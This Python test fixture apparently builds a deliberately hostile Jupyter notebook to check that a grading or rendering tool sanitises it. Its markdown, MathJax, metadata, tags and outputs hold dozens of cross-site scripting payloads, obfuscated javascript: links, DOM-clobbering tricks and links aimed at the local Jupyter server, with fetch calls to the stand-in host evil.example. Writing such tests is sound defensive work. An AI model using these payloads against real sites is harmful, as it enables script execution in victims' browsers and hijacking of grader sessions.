"""A notebook that would like to run in the browser of whoever opens it.

Each piece of it sets a mark if it runs (`window.owned`), or asks a host that is not ours for something (`evil.example`).
"""

from __future__ import annotations

from nbformat import NotebookNode, from_dict
from nbformat.v4 import new_output

ACT = "window.owned=1;document.title='OWNED';fetch('http://evil.example/act')"
ENTITIES = "".join(f"&#{ord(letter)};" for letter in "javascript:")

MARKDOWN = (
    f"<script>{ACT}</script>",
    f"<ScRiPt src=//evil.example/a.js></ScRiPt><script>{ACT}",
    f'<img src=x onerror="{ACT}"><img src="http://evil.example/a.png"><img srcset="http://evil.example/b.png 1x">',
    "![remote](http://evil.example/c.png) ![scheme](//evil.example/d.png) ![data](data:text/html,<script>alert(1)</script>)",
    f'<svg onload="{ACT}"><script>{ACT}</script><image href="http://evil.example/e.png"/><use href="http://evil.example/f.svg#a"/></svg>',
    f'<svg><a xlink:href="javascript:{ACT}"><text y="20">svg link</text></a><animate onbegin="{ACT}" attributeName="x"/></svg>',
    f'<math href="javascript:{ACT}"><mtext><mglyph><style><img src=x onerror="{ACT}"></style></mglyph></mtext></math>',
    f'<iframe src="http://evil.example/g"></iframe><iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
    '<object data="http://evil.example/h"></object><embed src="http://evil.example/i"><applet code="j"></applet>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/k"><base href="http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/l.css"><link rel="dns-prefetch" href="//evil.example">'
    '<link rel=preload as=image href="http://evil.example/m.png">',
    '<style>@import "http://evil.example/n.css"; body { background: url(http://evil.example/o.png); visibility: hidden }</style>',
    '<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;background:url(http://evil.example/p.png);z-index:99999">over</div>',
    f'<form action="http://evil.example/q"><input name=a autofocus onfocus="{ACT}"><button>submit</button></form>',
    f'<details open ontoggle="{ACT}"><summary>more</summary></details><video poster="http://evil.example/r.png" autoplay onloadstart="{ACT}">'
    '<source src="http://evil.example/s.mp4"></video><audio src="http://evil.example/t.mp3" autoplay></audio>',
    f'[click](javascript:{ACT}) [upper](JaVaScRiPt:{ACT}) <a href="{ENTITIES}{ACT}">entities</a> <a href="java\tscript:{ACT}">tab</a>',
    f'<a href="data:text/html,<script>{ACT}</script>">data</a> <a href="vbscript:msgbox(1)">vb</a> [ref][r]\n\n[r]: javascript:{ACT}',
    '<a href="https://example.org/" target="_top" ping="http://evil.example/u">top</a> <a href="https://example.org/" target="_blank">blank</a>',
    f'<noscript><p title="</noscript><img src=x onerror={ACT}>"></noscript><title></title><textarea></textarea><xmp><img src=x onerror="{ACT}"></xmp>',
    f'<table background="http://evil.example/v.png"><td background="http://evil.example/w.png" onclick="{ACT}">cell</td></table>',
    f'$\\href{{javascript:{ACT}}}{{x}}$ $\\unicode{{x41}}$ $$\\require{{html}}\\class{{owned}}{{\\cssId{{site}}{{y}}}}\\style{{background:url(http://evil.example/x.png)}}{{z}}$$',
    f'<form id="location" name="document"><input name="cookie"></form><a id="MathJax" name="MathJax" href="javascript:{ACT}">clobber</a>',
    f'</div></div></body></html><script>{ACT}</script><!--', f"--><script>{ACT}</script>",
    f'`</code><script>{ACT}</script>`\n\n```html\n</code></pre><script>{ACT}</script>\n```\n\n```"><script>{ACT}</script>\nx\n```',
)  # fmt: skip
# Links that lead to the Jupyter server itself, or come out as javascript: once nbgrader has taken "files/" off them.
LINKS = (
    f"[files](files/javascript:{ACT})", f"[root](/files/javascript:{ACT})", f'<a href="FILES/javascript:{ACT}">case</a>',
    "[config](/formgrader?path=submitted/mallory/attention)", "[beside](evil.html)", "[up](../../../logout)", "[host](//localhost:8888/logout)",
    "[local](http://localhost:8888/formgrader?path=submitted/mallory/attention)", "[number](http://127.0.0.1:8888/logout)",
    "[hex](http://0x7f.1:8888/logout)", "[six](http://[::1]:8888/logout)", "[named](http://jupyter:8888/logout)",
    "[below](http://a.localhost:8888/logout)", "[dot](http://localhost.:8888/logout)", "[user](http://arxiv.org@localhost:8888/logout)",
    '<a href="http:/formgrader?path=x">scheme</a>', '<a href="https:\\\\localhost\\logout">slashes</a>',
    '<a href="https://arxiv.org&#64;localhost/">entity</a>', '<a href="https://loc\talhost/">tab</a>',
)  # fmt: skip
# For MathJax, which reads the whole page: a link that runs or leads to the server, a picture by way of a style, a cell that lies over others.
FORMULAS = (
    f"$\\href{{javascript:{ACT}}}{{link}}$", "$$\\href{http://localhost:8888/formgrader?path=submitted/mallory/attention}{server}$$",
    "$\\style{cursor:url(http://evil.example/cursor.png),auto;background:url(http://evil.example/back.png)}{styled}$",
    "$\\bbox[cursor:url(http://evil.example/box.png),auto]{boxed}$", "$\\class{owned}{a} \\cssId{site}{b}$",
    f"$\\require{{HTML}} \\let\\h=\\href \\h{{javascript:{ACT}}}{{let}}$", f"$\\def\\g#1{{\\href{{javascript:{ACT}}}{{#1}}}}\\g{{def}}$",
    f"$\\mmlToken{{mi}}[href=\"javascript:{ACT}\"]{{token}}$", f"\\begin{{align}}\\href{{javascript:{ACT}}}{{environment}}\\end{{align}}",
    f"$\\hr<!-- -->ef{{javascript:{ACT}}}{{comment}}$", f"$\\hr<wbr>ef{{javascript:{ACT}}}{{break}}$", f"\\\\(\\href{{javascript:{ACT}}}{{round}}\\\\)",
    f"<p>$\\hr</p><p>ef{{javascript:{ACT}}}{{paragraph}}$</p>", f"<b title='$'>\\hr</b>ef{{javascript:{ACT}}}{{bold}}$",
    "$\\rlap{\\raise 50em{\\rule{300em}{300em}}}\\hspace{-200em}\\text{over}$",
)  # fmt: skip
LEGITIMATE = (
    "# 我的筆記 My notes\n\n兩個詞元之間的分數是 $q \\cdot k / \\sqrt{d}$，見[論文](https://arxiv.org/abs/1706.03762)。\n\n"
    "| 查詢 | 鍵 |\n|---|---|\n| 一 | 二 |\n\n```python\nx = torch.softmax(x, -1)\n```"
)
PASTED = "![手算 by hand](attachment:plot.png)"
DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="  # a PNG of one pixel
CODE = (
    f'# </pre></code><script>{ACT}</script>\nprint("</pre><script>{ACT}</script><img src=x onerror={ACT}>")',
    f'print("\\x1b[31m<b onmouseover={ACT}>red\\x1b[0m \\x1b]8;;javascript:{ACT}\\x07link\\x1b]8;;\\x07")',
    f"raise ValueError('</pre><script>{ACT}</script>')",
    "x = 1 < 2 and 3 > 2\nprint('中文輸出', x)",
)


def hostile(given: NotebookNode) -> NotebookNode:
    """`given` with all of it, in cells, outputs, metadata and attachments."""
    attachments = {
        "page.html": {"text/html": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="},
        "plot.png": {"image/png": DOT},
        "drawing.svg": {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ACT}"/>'},
    }
    for number, text in enumerate((*MARKDOWN, *LINKS, *FORMULAS, LEGITIMATE, PASTED)):
        given.cells.append(_cell(f"m{number}", "markdown", text, attachments=attachments))
    for number, text in enumerate(CODE):
        given.cells.append(_cell(f"c{number}", "code", text, outputs=_outputs(), execution_count=None))
    given.metadata["title"] = given.metadata["authors"] = f"</title><script>{ACT}</script>"
    given.metadata["language_info"] = {"name": f'python"><script>{ACT}</script>', "codemirror_mode": f"<script>{ACT}</script>"}
    given.metadata["kernelspec"] = {"name": "python3", "display_name": f"<script>{ACT}</script>", "language": "python"}
    given.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {f"<script>{ACT}</script>": {}}}}
    return given


def _cell(name: str, kind: str, source: str, **more: object) -> NotebookNode:
    tags = [f'"><script>{ACT}</script>', f"' onmouseover='{ACT}"]
    cell: NotebookNode = from_dict({"id": name, "cell_type": kind, "metadata": {"tags": tags}, "source": source, **more})
    return cell


def _outputs() -> list[NotebookNode]:
    rich = {
        "text/html": f'<script>{ACT}</script><img src=x onerror="{ACT}"><img src="http://evil.example/y.png">',
        "image/svg+xml": f'<svg onload="{ACT}"><script>{ACT}</script></svg>',
        "application/javascript": ACT,
        "text/latex": f"$\\href{{javascript:{ACT}}}{{x}}$",
        "text/markdown": f"<script>{ACT}</script>",
        "application/vnd.jupyter.widget-view+json": {"model_id": f"<script>{ACT}</script>"},
        f'"><script>{ACT}</script>': "type",
    }
    each = [new_output("display_data", data={kind: value}) for kind, value in rich.items()]
    return [*each, new_output("display_data", data=rich, metadata={"image/png": {"width": f'1" onload="{ACT}'}})]
